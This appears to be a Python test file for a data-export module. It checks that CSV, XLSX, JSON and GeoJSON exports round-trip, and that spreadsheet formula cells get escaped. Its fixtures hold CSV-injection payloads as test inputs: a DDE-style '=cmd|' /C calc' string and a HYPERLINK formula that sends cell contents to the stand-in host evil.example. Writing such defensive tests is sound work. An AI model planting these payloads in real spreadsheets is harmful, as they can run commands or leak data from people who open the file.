"""Writing exports and reading them back: every format round-trips what Relay wrote."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from openpyxl import load_workbook

from relay_app.transfer import FileFormat, TransferError, read_rows, write_geojson, write_table

FIELDS = ["name", "id", "city", "languages", "latitude", "longitude", "capacity", "consent"]
ROWS = [
    {
        "id": "7f1c0e1a-0000-4000-8000-000000000001",
        "name": "Coopérative de l'Été; Niño",
        "city": "Saint-Étienne",
        "languages": ["fr", "es"],
        "latitude": 45.43,
        "longitude": 4.39,
        "capacity": 40,
        "consent": True,
    },
    {
        "id": "7f1c0e1a-0000-4000-8000-000000000002",
        "name": "=cmd|' /C calc'!A0",
        "city": None,
        "languages": [],
        "latitude": None,
        "longitude": None,
        "capacity": None,
        "consent": False,
    },
]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_round_trip(tmp_path: Path, delimiter: str):
    path = tmp_path / "partners.csv"
    assert write_table(path, FileFormat.CSV, FIELDS, ROWS, delimiter=delimiter) == 2

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    header = raw[3:].split(b"\r\n")[0].decode()
    assert header.split(delimiter)[:2] == ["id", "name"]

    rows = read_rows(path)
    assert [row.number for row in rows] == [2, 3]
    assert rows[0].values == {
        "id": ROWS[0]["id"],
        "name": "Coopérative de l'Été; Niño",
        "city": "Saint-Étienne",
        "languages": "fr; es",
        "latitude": "45.43",
        "longitude": "4.39",
        "capacity": "40",
        "consent": "true",
    }
    assert rows[1].values["city"] is None
    assert rows[1].values["languages"] is None
    assert rows[1].values["name"] == ROWS[1]["name"]


def test_xlsx_round_trip_keeps_numbers_and_never_makes_formulas(tmp_path: Path):
    path = tmp_path / "partners.xlsx"
    assert write_table(path, FileFormat.XLSX, FIELDS, ROWS) == 2

    rows = read_rows(path)
    assert rows[0].values["id"] == ROWS[0]["id"]
    assert next(iter(rows[0].values)) == "id"
    assert rows[0].values["latitude"] == 45.43
    assert rows[0].values["capacity"] == 40
    assert rows[0].values["consent"] is True
    assert rows[0].values["languages"] == "fr; es"
    assert rows[1].values["latitude"] is None
    assert rows[1].values["name"] == ROWS[1]["name"]

    sheet = load_workbook(path).active
    assert sheet["B3"].data_type == "s"
    assert sheet["A1"].font.bold


def test_json_round_trip_keeps_lists_and_nulls(tmp_path: Path):
    path = tmp_path / "partners.json"
    assert write_table(path, FileFormat.JSON, FIELDS, ROWS) == 2

    document = json.loads(path.read_text(encoding="utf-8"))
    assert next(iter(document[0])) == "id"
    assert "Coopérative" in path.read_text(encoding="utf-8")  # not \u-escaped

    rows = read_rows(path)
    assert [row.number for row in rows] == [1, 2]
    assert rows[0].values == {name: ROWS[0][name] for name in FIELDS}
    assert rows[1].values["city"] is None
    assert rows[1].values["languages"] == []


def test_geojson_writes_only_rows_with_both_coordinates(tmp_path: Path):
    rows = [*ROWS, {"id": "x3", "name": "Half", "latitude": 1.0, "longitude": None}]
    path = tmp_path / "partners.geojson"
    assert write_geojson(path, FIELDS, rows) == 1

    collection = json.loads(path.read_text(encoding="utf-8"))
    assert collection["type"] == "FeatureCollection"
    [feature] = collection["features"]
    assert feature["geometry"] == {"type": "Point", "coordinates": [4.39, 45.43]}
    assert "latitude" not in feature["properties"]
    assert feature["properties"]["languages"] == ["fr", "es"]
    assert next(iter(feature["properties"])) == "id"

    [row] = read_rows(path)
    assert row.values["latitude"] == 45.43
    assert row.values["longitude"] == 4.39
    assert row.values["name"] == ROWS[0]["name"]


def test_write_table_accepts_geojson_too(tmp_path: Path):
    assert write_table(tmp_path / "p.geojson", FileFormat.GEOJSON, FIELDS, ROWS) == 1


@pytest.mark.parametrize("fmt", list(FileFormat))
def test_empty_exports_are_still_valid_files(tmp_path: Path, fmt: FileFormat):
    path = tmp_path / f"empty.{fmt.value}"
    assert write_table(path, fmt, FIELDS, []) == 0
    assert read_rows(path) == []


def test_writing_replaces_the_old_file_and_leaves_no_temporary_file(tmp_path: Path):
    path = tmp_path / "partners.csv"
    path.write_text("old content", encoding="utf-8")
    os.chmod(path, 0o640)
    write_table(path, FileFormat.CSV, FIELDS, ROWS[:1])
    assert "Saint-Étienne" in path.read_text(encoding="utf-8-sig")
    assert os.stat(path).st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["partners.csv"]


def test_a_failed_write_keeps_the_previous_file(tmp_path: Path):
    path = tmp_path / "partners.json"
    path.write_text('["previous"]', encoding="utf-8")

    def rows_then_crash():
        yield ROWS[0]
        raise RuntimeError("disk unplugged")

    with pytest.raises(RuntimeError):
        write_table(path, FileFormat.JSON, FIELDS, rows_then_crash())
    assert path.read_text(encoding="utf-8") == '["previous"]'
    assert [p.name for p in tmp_path.iterdir()] == ["partners.json"]


def test_writing_into_a_missing_folder_is_a_transfer_error(tmp_path: Path):
    with pytest.raises(TransferError) as caught:
        write_table(tmp_path / "nowhere" / "p.csv", FileFormat.CSV, FIELDS, ROWS)
    assert "p.csv" in caught.value.message


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already marked",
    "''@twice",
    " =1+1",
    "\n-1+1",
]
HARMLESS = ["'quoted but no formula", "'", "' ", "Saint-Étienne", "1+1", "3-1"]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_cells_that_a_spreadsheet_would_run_are_marked_as_text(tmp_path: Path, delimiter: str):
    """Each hostile value, read back as raw CSV text, starts with the apostrophe spreadsheets take
    as "this is text" (OWASP's CSV injection advice); numbers from number fields are left as
    numbers, a negative latitude included; and reading our own file gives every value back."""
    values = HOSTILE + HARMLESS
    rows = [{"id": str(index), "name": value, "latitude": -1.52, "capacity": -3, "languages": [value, "fr"]}
            for index, value in enumerate(values)]
    path = tmp_path / "partners.csv"
    write_table(path, FileFormat.CSV, ["id", "name", "latitude", "capacity", "languages"], rows,
                delimiter=delimiter)

    text = path.read_bytes().decode("utf-8-sig")  # as written: a carriage return stays one
    [_header, *cells] = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    for value, (_id, name, latitude, capacity, languages) in zip(values, cells, strict=True):
        marked = value in HOSTILE
        assert name == ("'" + value if marked else value), value
        assert languages == ("'" if marked else "") + f"{value}; fr", value
        assert (latitude, capacity) == ("-1.52", "-3")

    read = read_rows(path)
    assert [row.values["name"] for row in read] == values
    assert [row.values["languages"] for row in read] == [f"{value}; fr" for value in values]
    assert {row.values["latitude"] for row in read} == {"-1.52"}
